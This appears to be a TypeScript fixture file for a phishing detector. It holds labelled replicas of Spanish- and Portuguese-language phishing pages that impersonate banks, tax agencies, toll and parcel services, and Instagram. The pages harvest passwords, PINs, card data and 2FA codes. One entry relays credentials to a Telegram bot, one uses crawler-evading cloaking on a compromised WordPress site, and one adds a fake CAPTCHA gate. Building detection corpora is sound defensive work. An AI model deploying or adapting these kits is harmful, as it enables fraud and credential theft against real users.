import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, mark, topbar, foot, btn, form, b64, tgRelay, sms } from '../parts/zp-kit.js';
import { zip, pe, cfb, iso, lnk, apk, fileRoute, jsRoute, jsonRoute, pngRoute, beepWav } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zp-bbva-mx-telegram-kit',
  label: 'phishing',
  kind: 'bank-telegram-kit',
  url: 'https://bbvamx-net.digital-acceso.mx/login',
  body: page({
    title: 'BBVA México | Banca en Línea',
    css: `body{background:#072146}.card{border-radius:2px}.card h1{color:#072146}`,
    body: `<main><div class="card">${mark('BBVA', '#004481', 110)}<h1>Bienvenido a BBVA net</h1>
<p class="muted">Por disposición de la CNBV es necesario actualizar sus datos para seguir operando su tarjeta.</p>
${form({ action: '#', id: 'bx', color: '#1973b8', button: 'Ingresar', fields: [['Número de tarjeta o usuario', 'usuario', 'text', 'required'], ['Contraseña', 'pass', 'password', 'required'], ['NIP del cajero', 'nip', 'password', 'maxlength="4"'], ['Celular', 'cel', 'tel']] })}</div></main>
${tgRelay('bx', '6812274509:AAHv2mQk9xP3rLwT8sYbN0cZeJ4fGu1aKdE', '-1002018833471', '/espera.html')}`,
  }),
  routes: { 'bbvamx-net.digital-acceso.mx/espera.html': htmlRoute(page({ title: 'BBVA', body: `<main><div class="card"><h2>Estamos validando su información</h2><p>No cierre esta ventana. Un ejecutivo le llamará para confirmar el token.</p></div></main>` })) },
},
{
  id: 'zp-caixabank-now-dni-firma-kit',
  label: 'phishing',
  kind: 'bank-sms-kit',
  url: 'https://www.caixabank-now.es-seguridad.info/index.php',
  body: page({
    title: 'CaixaBankNow - Identificación',
    css: `header.top{background:#007eae}.card h1{color:#007eae}`,
    body: `${topbar(mark('CaixaBank', '#fff', 170), ['Particulares', 'Banca Privada'], '#007eae')}
<main><div class="card"><h1>Identifícate</h1><p>Hemos suspendido temporalmente su firma digital. Para reactivarla confirme sus credenciales.</p>
${form({ action: 'acceso/procesar.php', color: '#007eae', button: 'Continuar', fields: [['Identificación (DNI/NIE)', 'dni', 'text'], ['Contraseña', 'pwd', 'password'], ['Teléfono móvil', 'movil', 'tel']] })}</div></main>
${foot('CaixaBank, S.A.', ['Privacidad', 'Accesibilidad'])}`,
  }),
},
{
  id: 'zp-itau-br-senha-eletronica-kit',
  label: 'phishing',
  kind: 'bank-sms-kit',
  url: 'https://itau-seguranca.app-desbloqueio.com/acesso/',
  body: page({
    lang: 'pt-BR',
    title: 'Itaú - Acesse sua conta',
    css: `body{background:#ec7000}.card h1{color:#ec7000}`,
    body: `<main><div class="card">${mark('Itaú', '#003399', 100)}<h1>Desbloqueio de iToken</h1>
<p>Seu dispositivo de segurança foi desativado. Informe os dados abaixo para reativá-lo e evitar o bloqueio do cartão.</p>
${form({ action: 'enviar.php', color: '#ec7000', button: 'Continuar', fields: [['Agência', 'agencia', 'text', 'maxlength="4"'], ['Conta', 'conta', 'text', 'maxlength="6"'], ['Senha eletrônica (6 dígitos)', 'senha6', 'password', 'maxlength="6"'], ['Senha do cartão (4 dígitos)', 'senha4', 'password', 'maxlength="4"'], ['CPF', 'cpf', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-caixa-fgts-saque-cpf-kit',
  label: 'phishing',
  kind: 'gov-benefit-kit',
  url: 'https://saque-fgts-liberado.com/consulta',
  body: page({
    lang: 'pt-BR',
    title: 'CAIXA | Consulta Saque FGTS 2025',
    css: `header.top{background:#005ca9}.hero{background:#f39200;color:#fff;padding:24px;text-align:center}`,
    body: `${topbar(mark('CAIXA', '#fff', 130), ['FGTS', 'Bolsa Família', 'Loterias'], '#005ca9')}
<div class="hero"><h1>Você tem até R$ 2.920,00 disponível para saque</h1><p>Consulte agora com seu CPF. Valores liberados pelo Governo Federal.</p></div>
<main><div class="card">${form({ action: 'consulta/valida.php', color: '#005ca9', button: 'Consultar saldo', fields: [['CPF', 'cpf', 'text', 'placeholder="000.000.000-00"'], ['Data de nascimento', 'nasc', 'text'], ['Senha do Internet Banking CAIXA', 'senha', 'password']] })}</div></main>`,
  }),
},
{
  id: 'zp-aeat-devolucion-renta-tarjeta',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://sede-agenciatributaria.gob-es.reembolsos24.com/Renta/devolucion.html',
  body: page({
    title: 'Agencia Tributaria: Devolución pendiente',
    css: `header.top{background:#7a0c0c;color:#fff}.card{max-width:560px}`,
    body: `${topbar('<strong style="color:#fff">Agencia Tributaria</strong>', ['Sede electrónica'], '#7a0c0c')}
<main><div class="card"><h2>Notificación de reembolso de impuestos</h2><p>Tras los últimos cálculos anuales de su actividad fiscal, hemos determinado que tiene derecho a recibir un reembolso de <strong>489,60 €</strong>. Complete el formulario para recibir el importe en su tarjeta en un plazo de 3 a 5 días hábiles.</p>
${form({ action: 'procesar.php', color: '#7a0c0c', button: 'Recibir reembolso', fields: [['Nombre y apellidos', 'nombre', 'text'], ['NIF', 'nif', 'text'], ['Número de tarjeta', 'cc', 'text', 'autocomplete="cc-number"'], ['Caducidad', 'exp', 'text', 'placeholder="MM/AA"'], ['CVV', 'cvv', 'text', 'maxlength="3"']] })}</div></main>`,
  }),
},
{
  id: 'zp-receita-cpf-irregular-regularizar',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://receita-regularize.com/cpf/situacao',
  body: page({
    lang: 'pt-BR',
    title: 'Receita Federal - Regularização de CPF',
    css: `header.top{background:#1351b4}`,
    body: `${topbar('<strong style="color:#fff">gov.br</strong>', ['Receita Federal'], '#1351b4')}
<main><div class="card" style="max-width:600px"><h2>Seu CPF está com pendências</h2><p>Identificamos divergências na sua Declaração do IRPF. O CPF será <strong>suspenso em 48 horas</strong>, impedindo movimentações bancárias, saques do FGTS e emissão de passaporte.</p>
${form({ action: 'regularizar.php', color: '#1351b4', button: 'Regularizar agora', fields: [['CPF', 'cpf', 'text'], ['Nome completo', 'nome', 'text'], ['Nome da mãe', 'mae', 'text'], ['Senha gov.br', 'senha', 'password']] })}</div></main>`,
  }),
},
{
  id: 'zp-sat-buzon-tributario-efirma',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://sat-buzontributario.mx-notificaciones.com/',
  body: page({
    title: 'SAT | Buzón Tributario',
    css: `header.top{background:#611232}`,
    body: `${topbar('<strong style="color:#fff">SAT · Servicio de Administración Tributaria</strong>', [], '#611232')}
<main><div class="card"><h2>Tiene 1 notificación pendiente</h2><p>Para consultar el requerimiento de su Buzón Tributario ingrese con su RFC y contraseña.</p>
${form({ action: 'notificacion/login.php', color: '#611232', button: 'Enviar', fields: [['RFC', 'rfc', 'text', 'maxlength="13"'], ['Contraseña', 'contrasena', 'password'], ['Correo electrónico', 'correo', 'email'], ['Contraseña del correo', 'pass_correo', 'password']] })}</div></main>`,
  }),
},
{
  id: 'zp-portal-financas-pt-nif-reembolso',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://portaldasfinancas-gov.pt-reembolso.com/login',
  body: page({
    lang: 'pt-PT',
    title: 'Portal das Finanças - Autenticação',
    css: `header.top{background:#2b6a3f}`,
    body: `${topbar('<strong style="color:#fff">Portal das Finanças</strong>', [], '#2b6a3f')}
<main><div class="card"><h2>Reembolso de IRS disponível</h2><p>Autentique-se para indicar o IBAN e o cartão onde pretende receber o reembolso de 312,44 €.</p>
${form({ action: 'reembolso.php', color: '#2b6a3f', button: 'Autenticar', fields: [['NIF', 'nif', 'text', 'maxlength="9"'], ['Senha', 'senha', 'password'], ['IBAN', 'iban', 'text'], ['Número do cartão', 'cartao', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-via-verde-portagem-em-atraso',
  label: 'phishing',
  kind: 'toll-kit',
  url: 'https://viaverde-pagamentos.info/portagens',
  body: page({
    lang: 'pt-PT',
    title: 'Via Verde | Portagem em atraso',
    css: `header.top{background:#00a650}`,
    body: `${topbar(mark('via verde', '#fff', 150), [], '#00a650')}
<main><div class="card"><h2>Tem uma portagem por pagar</h2><p>Matrícula associada: passagem na A1 em 12/10. Valor em dívida: <strong>2,35 €</strong>. Evite a coima de 25 € pagando hoje.</p>
${form({ action: 'pagar.php', color: '#00a650', button: 'Pagar 2,35 €', fields: [['Matrícula', 'matricula', 'text'], ['Nome no cartão', 'titular', 'text'], ['Número do cartão', 'numero', 'text', 'autocomplete="cc-number"'], ['Validade', 'validade', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-dgt-multa-pendiente-pago',
  label: 'phishing',
  kind: 'toll-kit',
  url: 'https://dgt-multas.es-sede.com/pago/',
  body: page({
    title: 'DGT - Sede Electrónica - Pago de sanciones',
    css: `header.top{background:#00387a}`,
    body: `${topbar('<strong style="color:#fff">DGT · Dirección General de Tráfico</strong>', [], '#00387a')}
<main><div class="card"><h2>Multa pendiente de pago</h2><p>Expediente 2025/ES-88213. Infracción: exceso de velocidad captado por radar. Importe con reducción del 50 %: <strong>50,00 €</strong> si abona antes del 30/11.</p>
${form({ action: 'tpv.php', color: '#00387a', button: 'Pagar ahora', fields: [['Matrícula', 'matricula', 'text'], ['Titular de la tarjeta', 'titular', 'text'], ['Tarjeta', 'tarjeta', 'text'], ['Fecha de caducidad', 'cad', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-correos-es-paquete-retenido-199',
  label: 'phishing',
  kind: 'parcel-kit',
  url: 'https://correos-es.envio-pendiente.com/seguimiento/?id=PQ4X9E0341',
  body: page({
    title: 'Correos - Seguimiento de envíos',
    css: `header.top{background:#ffcd00}`,
    body: `${topbar('<strong style="color:#002e6d;font-size:22px">Correos</strong>', ['Enviar', 'Recibir', 'Oficinas'], '#ffcd00')}
<main><div class="card"><h2>Su paquete PQ4X9E0341 está retenido</h2><p>No se han abonado los gastos de aduana. Pague <strong>1,99 €</strong> para que su envío sea entregado en las próximas 48 h. Si no se abona, el paquete será devuelto al remitente.</p>
${form({ action: 'pago.php', color: '#002e6d', button: 'Pagar 1,99 €', fields: [['Nombre completo', 'nombre', 'text'], ['Dirección', 'direccion', 'text'], ['Número de tarjeta', 'tarjeta', 'text'], ['MM/AA', 'exp', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-correios-br-taxa-importacao-cartao',
  label: 'phishing',
  kind: 'parcel-kit',
  url: 'https://correios-rastreio.taxa-liberacao.com/objeto/NL482193055BR',
  body: page({
    lang: 'pt-BR',
    title: 'Correios - Rastreamento de objeto',
    css: `header.top{background:#00416b}`,
    body: `${topbar('<strong style="color:#ffd400;font-size:22px">Correios</strong>', [], '#00416b')}
<main><div class="card"><h2>Objeto NL482193055BR aguardando pagamento</h2><ul><li>Objeto recebido pelos Correios do Brasil — CURITIBA/PR</li><li>Fiscalização aduaneira finalizada</li><li><strong>Aguardando pagamento da taxa: R$ 47,90</strong></li></ul>
${form({ action: 'pagamento.php', color: '#00416b', button: 'Pagar e liberar', fields: [['CPF', 'cpf', 'text'], ['Número do cartão', 'cc', 'text'], ['Validade', 'val', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-ctt-pt-encomenda-morada',
  label: 'phishing',
  kind: 'parcel-kit',
  url: 'https://ctt-encomendas.pt-entrega.top/rastreio',
  body: page({
    lang: 'pt-PT',
    title: 'CTT - Atualize a morada de entrega',
    css: `header.top{background:#df0024}`,
    body: `${topbar('<strong style="color:#fff;font-size:22px">CTT</strong>', [], '#df0024')}
<main><div class="card"><h2>Não conseguimos entregar a sua encomenda</h2><p>A morada está incompleta. Atualize a morada e pague 1,49 € de reagendamento.</p>
${form({ action: 'morada.php', color: '#df0024', button: 'Continuar', fields: [['Nome', 'nome', 'text'], ['Morada', 'morada', 'text'], ['Código postal', 'cp', 'text'], ['Cartão', 'cartao', 'text'], ['Validade', 'validade', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-estafeta-mx-reprogramar-entrega',
  label: 'phishing',
  kind: 'parcel-kit',
  url: 'https://estafeta-mx.rastreo-guia.com/',
  body: page({
    title: 'Estafeta | Reprogramación de entrega',
    css: `header.top{background:#ffcc00}`,
    body: `${topbar('<strong style="color:#e4002b;font-size:22px">ESTAFETA</strong>', [], '#ffcc00')}
<main><div class="card"><h2>Guía 8055 2290 0413 — Intento de entrega fallido</h2><p>Para reprogramar su entrega cubra el cargo de $25.00 MXN.</p>
${form({ action: 'cobro.php', color: '#e4002b', button: 'Pagar y reprogramar', fields: [['Nombre', 'nombre', 'text'], ['Tarjeta de débito o crédito', 'tarjeta', 'text'], ['Vencimiento', 'venc', 'text'], ['CVV', 'cvv', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-owa-correo-corporativo-grupo',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail-grupobancario.outlook-sesion.com/owa/auth/logon.aspx',
  body: page({
    title: 'Outlook',
    css: `body{background:#0072c6;color:#fff}.owa{max-width:380px;margin:120px auto}.owa input{background:#fff}.owa button{background:#fff;color:#0072c6;width:auto;padding:8px 22px}`,
    body: `<div class="owa"><h1 style="font-weight:300">Outlook</h1><p>Su buzón ha superado el límite de almacenamiento. Inicie sesión para validar su cuenta y evitar la pérdida de mensajes.</p>
<form id="owaf" method="post" action="/owa/auth/owaauth.php"><label style="color:#fff">Dominio\\nombre de usuario:</label><input name="username" type="text"><label style="color:#fff">Contraseña:</label><input name="password" type="password"><button type="submit">iniciar sesión</button></form></div>`,
  }),
},
{
  id: 'zp-instagram-selo-verificado-es',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://meta-verificacion-insignia.com/instagram/',
  body: page({
    title: 'Instagram | Centro de ayuda - Insignia de verificación',
    css: `.card{text-align:center}`,
    body: `<main><div class="card"><h2 style="font-family:cursive">Instagram</h2><p>¡Enhorabuena! Tu cuenta cumple los requisitos para obtener la insignia azul. Confirma tu identidad para completar la solicitud.</p>
${form({ action: 'submit.php', color: '#0095f6', button: 'Enviar solicitud', fields: [['Nombre de usuario', 'usuario', 'text'], ['Contraseña', 'contrasena', 'password'], ['Código de autenticación en dos pasos', 'codigo2fa', 'text']] })}</div></main>`,
  }),
},
{
  id: 'zp-cloaked-ua-mobile-only-santander-pt',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://www.clinicadentaria-sorriso.pt/wp-includes/css/m/',
  body: `<!DOCTYPE html><html lang="pt-PT"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Clínica Dentária Sorriso</title></head><body>
<div id="c"><h1>Clínica Dentária Sorriso</h1><p>Implantologia, ortodontia e higiene oral em Braga. Marcações: 253 000 411.</p></div>
<script>
(function(){var u=navigator.userAgent,b=/bot|crawl|spider|headless|lighthouse|google|bing|curl|python/i.test(u)||navigator.webdriver;
var m=/Android|iPhone|iPad|Mobile/i.test(u);if(b)return;
var k="${b64(`<div style="font-family:Arial;max-width:400px;margin:30px auto;padding:20px;border-top:5px solid #ec0000"><h2 style="color:#ec0000">Santander</h2><p>Para continuar a utilizar a app confirme o acesso. O seu cartão foi bloqueado preventivamente.</p><form method="post" action="/wp-includes/css/m/go.php"><p>Nº de contribuinte<br><input name="nif"></p><p>Código multicanal<br><input name="pin" type="password" maxlength="6"></p><p>Telemóvel<br><input name="tlm" type="tel"></p><button style="background:#ec0000;color:#fff;border:0;padding:10px 40px">Continuar</button></form></div>`)}";
if(m||document.referrer.indexOf("t.co")<0){document.getElementById("c").innerHTML=atob(k);document.title="Santander Particulares";}})();
</script></body></html>`,
},
{
  id: 'zp-pix-estorno-agendado-kit',
  label: 'phishing',
  kind: 'payment-app-kit',
  url: 'https://central-pix-estorno.com/atendimento',
  body: page({
    lang: 'pt-BR',
    title: 'Central Pix - Estorno de transferência',
    css: `body{background:#eef6f5}.card h2{color:#32bcad}`,
    body: `<main><div class="card"><h2>Pix agendado: R$ 1.890,00</h2><p>Uma transferência Pix foi agendada a partir da sua conta. Se você não reconhece, solicite o estorno informando os dados do seu banco.</p>
${form({ action: 'estorno.php', color: '#32bcad', button: 'Solicitar estorno', fields: [['Banco', 'banco', 'text'], ['CPF', 'cpf', 'text'], ['Agência', 'agencia', 'text'], ['Conta', 'conta', 'text'], ['Senha do cartão', 'senha', 'password', 'maxlength="6"']] })}</div></main>`,
  }),
},
{
  id: 'zp-captcha-gate-then-galicia-kit',
  label: 'phishing',
  kind: 'captcha-gated-kit',
  url: 'https://verificacion-usuarios.com.ar/c/',
  body: page({
    title: 'Verificando...',
    css: `.cb{display:flex;align-items:center;gap:12px;border:1px solid #d3d3d3;padding:14px;border-radius:4px;max-width:300px;margin:120px auto;background:#f9f9f9}.cb input{width:24px;height:24px}`,
    body: `<div id="gate"><div class="cb"><input type="checkbox" id="ok"><label for="ok" style="margin:0">No soy un robot</label></div></div>
<script>document.getElementById("ok").addEventListener("change",function(){setTimeout(function(){location.href="/c/ingreso.html?s="+Date.now().toString(36)},900)});</script>`,
  }),
  routes: {
    'verificacion-usuarios.com.ar/c/ingreso.html': htmlRoute(page({
      title: 'Galicia | Ingreso',
      body: `<main><div class="card">${mark('Galicia', '#fa6400', 140)}<h2>Reactivá tu Token</h2>${form({ action: 'ok.php', color: '#fa6400', button: 'Continuar', fields: [['DNI', 'dni', 'text'], ['Usuario', 'usuario', 'text'], ['Clave', 'clave', 'password']] })}</div></main>`,
    })),
  },
},
{
  id: 'zp-banamex-token-aviso-cargo',
  label: 'phishing',
  kind: 'bank-sms-kit',
  url: 'https://banamex-seguridad.com.mx-bancanet.info/',
  body: page({
    title: 'Banamex | BancaNet',
    css: `header.top{background:#002b5c}`,
    body: `${topbar('<strong style="color:#fff">Banamex</strong>', [], '#002b5c')}
<main><div class="card"><h2>Cargo no reconocido por $8,450.00</h2><p>Ingrese para rechazar el cargo realizado en AMAZON MX.</p>
${form({ action: 'rechazar.php', color: '#002b5c', button: 'Rechazar cargo', fields: [['Número de cliente', 'cliente', 'text'], ['Clave de acceso', 'clave', 'password'], ['Clave dinámica (NetKey)', 'netkey', 'text', 'maxlength="8"']] })}</div></main>`,
  }),
},
];
